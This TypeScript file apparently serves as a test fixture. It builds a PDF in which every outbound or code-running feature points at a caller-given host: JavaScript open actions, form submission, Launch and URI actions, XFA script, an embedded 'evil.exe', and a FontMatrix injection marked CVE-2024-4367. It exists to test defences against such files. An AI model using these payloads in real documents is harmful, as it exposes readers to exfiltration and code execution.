import { pdfOf } from './pdf-sample';

/** Every way that a PDF knows to reach out or to run something, each towards `elsewhere`; `text` is its one line. */
export function hostilePdf(text: string, elsewhere: string): Buffer {
  const script = `app.launchURL('${elsewhere}/js', true); this.submitForm('${elsewhere}/form'); fetch('${elsewhere}/fetch')`;
  const content = `BT /F1 12 Tf 20 100 Td <${Buffer.from(text).toString('hex')}> Tj ET\n/Far Do\n`;
  const program = '{ app.launchURL(1) }';
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${escaped(script)}) >>
      /AA << /WC << /S /URI /URI (${elsewhere}/close) >> >> /URI << /Base (${elsewhere}/base/) >>
      /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${escaped(script)}) >>] >>
        /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>
      /AcroForm << /Fields [9 0 R] /XFA 7 0 R >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R
      /AA << /O << /S /URI /URI (${elsewhere}/open) >> >> /Annots [8 0 R 9 0 R 10 0 R 11 0 R]
      /Resources << /Font << /F1 5 0 R >> /XObject << /Far 12 0 R >> >> >>`,
    stream('', content),
    // CVE-2024-4367: a font's matrix that once became code.
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica
      /FontMatrix [0.001 0 0 0.001 0 (0\\); fetch\\('${elsewhere}/font'\\); \\(0)] >>`,
    `<< /Type /Filespec /F (evil.exe) /EF << /F 13 0 R >> >>`,
    stream('', `<xdp:xdp xmlns:xdp="x"><template><script>${escaped(script)}</script></template></xdp:xdp>`),
    link(`/A << /S /URI /URI (${elsewhere}/link) >>`),
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 300 200]
      /A << /S /SubmitForm /F << /FS /URL /F (${elsewhere}/submit) >> >> >>`,
    link(`/A << /S /Launch /F (${elsewhere}/launch) /NewWindow true >>`),
    '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 300 200] /FS 6 0 R >>',
    // A picture whose data lie elsewhere, and a function that must not be compiled.
    stream(
      `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8
      /F << /FS /URL /F (${elsewhere}/image) >>
      /ColorSpace [/Separation /X /DeviceGray << /FunctionType 4 /Domain [0 1] /Range [0 1] >>]`,
      program,
    ),
    stream('/Type /EmbeddedFile', 'MZ'),
  ]);
}

const escaped = (text: string) => text.replace(/[()\\]/g, '\\$&');
const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] ${action} >>`;
const stream = (entries: string, data: string) =>
  `<< ${entries} /Length ${Buffer.byteLength(data)} >>\nstream\n${data}\nendstream`;
